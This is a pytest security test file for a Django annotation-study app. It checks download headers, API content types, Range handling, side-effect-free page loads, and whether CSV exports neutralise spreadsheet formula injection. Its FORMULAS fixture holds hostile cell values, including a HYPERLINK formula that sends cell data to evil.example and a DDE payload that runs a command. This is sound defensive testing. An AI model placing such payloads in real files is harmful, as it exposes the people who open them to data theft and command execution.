"""Files that are sent: always downloads under plain names, never a page of ours, and no cell of them a formula."""

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from tests.page_addresses import addresses_of
from tests.permission_matrix import API
from tests.safety.hostile_study import HostileStudy, make_hostile_study

pytestmark = pytest.mark.django_db
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACHED = re.compile(r'attachment; filename="[A-Za-z0-9][A-Za-z0-9._-]*"')


@pytest.fixture
def formulas(db: None, surroundings: Path) -> HostileStudy:
    """A study whose every text is a formula."""
    return make_hostile_study(FORMULAS)


def as_lead(study: HostileStudy) -> Client:
    client = Client()
    client.force_login(study.people.sam)
    return client


def downloads(client: Client, study: HostileStudy) -> Iterator[str]:
    """The address of every file that the study's pages and the API offer."""
    slug = study.study.slug
    for page in (f"/studies/{slug}/results/?now", f"/studies/{slug}/snapshots/", f"/studies/{slug}/"):
        html = client.get(page).content.decode()
        yield from sorted(set(re.findall(rf'href="(/studies/{slug}/[^"?]*\.[a-z]+)"', html)))
    yield f"/api/v1/studies/{slug}/annotations.jsonl?include=skips,flags,untouched,left_out&revisions=all"
    yield f"/api/v1/studies/{slug}/annotations.csv?include=skips,flags,untouched,left_out&revisions=all"
    yield f"/api/v1/studies/{slug}/pairs.jsonl"
    for form in ("messages", "text", "json", "dspy", "verify"):
        yield f"/api/v1/studies/{slug}/prompt-sets/no-commas/v1/export/?format={form}"


def test_a_file_is_a_download_under_a_plain_name_and_its_type_is_not_guessed(hostile: HostileStudy) -> None:
    client = as_lead(hostile)
    found = list(downloads(client, hostile))
    assert {address.rpartition(".")[2] for address in found} >= {
        "csv",
        "svg",
        "png",
        "html",
        "tex",
        "md",
        "json",
        "parquet",
    }
    for address in found:
        answer = client.get(address)
        assert answer.status_code == 200, address
        assert ATTACHED.fullmatch(answer["Content-Disposition"]), address
        assert answer["X-Content-Type-Options"] == "nosniff", address
        assert "Content-Security-Policy" in answer, address


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell) is not None


def test_no_cell_of_any_csv_file_is_a_formula(formulas: HostileStudy) -> None:
    client = as_lead(formulas)
    files = [address for address in downloads(client, formulas) if ".csv" in address]
    assert len(files) > 20
    cells = 0
    for address in files:
        text = b"".join(client.get(address)).decode()
        for row in csv.reader(io.StringIO(text, newline="")):
            run = [cell for cell in row if cell.startswith(STARTS) and not is_number(cell)]
            assert run == [], address
            cells += sum(cell.startswith("'") for cell in row)
    assert cells > 200, "the formulas are there"


def test_no_answer_of_the_api_is_a_page(hostile: HostileStudy) -> None:
    client = as_lead(hostile)
    for method, route in API:
        if method != "GET" or route == "api/v1/docs/":
            continue
        for address in addresses_of(route, hostile.values):
            answer = client.get(address)
            assert answer.status_code in (200, 400, 404, 409), address
            assert not answer["Content-Type"].startswith("text/html"), address
            assert answer["X-Content-Type-Options"] == "nosniff", address


@pytest.mark.parametrize(
    ("wanted", "status"),
    [
        ("bytes=0-" + "9" * 5_000, 200),
        ("bytes=" + "9" * 5_000 + "-", 200),
        ("bytes=-" + "9" * 18, 206),
        ("bytes=999999999999999999-", 416),
        ("bytes=٣-٤", 200),
        ("bytes=0-0,5-6", 200),
        ("bytes=-", 200),
        ("bytes=-0", 416),
        ("bytes=9-3", 416),
        ("lines=0-1", 200),
        ("bytes=0-\u20ac", 200),
    ],
)
def test_no_range_fails_a_download(hostile: HostileStudy, wanted: str, status: int) -> None:
    client = as_lead(hostile)
    address = f"/studies/{hostile.study.slug}/snapshots/{hostile.values['number'][0]}/cases.jsonl"
    assert client.get(address, headers={"Range": wanted}).status_code == status


def test_opening_a_page_changes_no_row(hostile: HostileStudy) -> None:
    """A link or a picture in a text must not act for whoever reads it."""
    client = as_lead(hostile)
    for address in hostile.addresses():
        with CaptureQueriesContext(connection) as statements:
            client.get(address)
        written = [row["sql"][:80] for row in statements if re.match(r"\s*(INSERT|UPDATE|DELETE)", row["sql"])]
        assert written == [], address
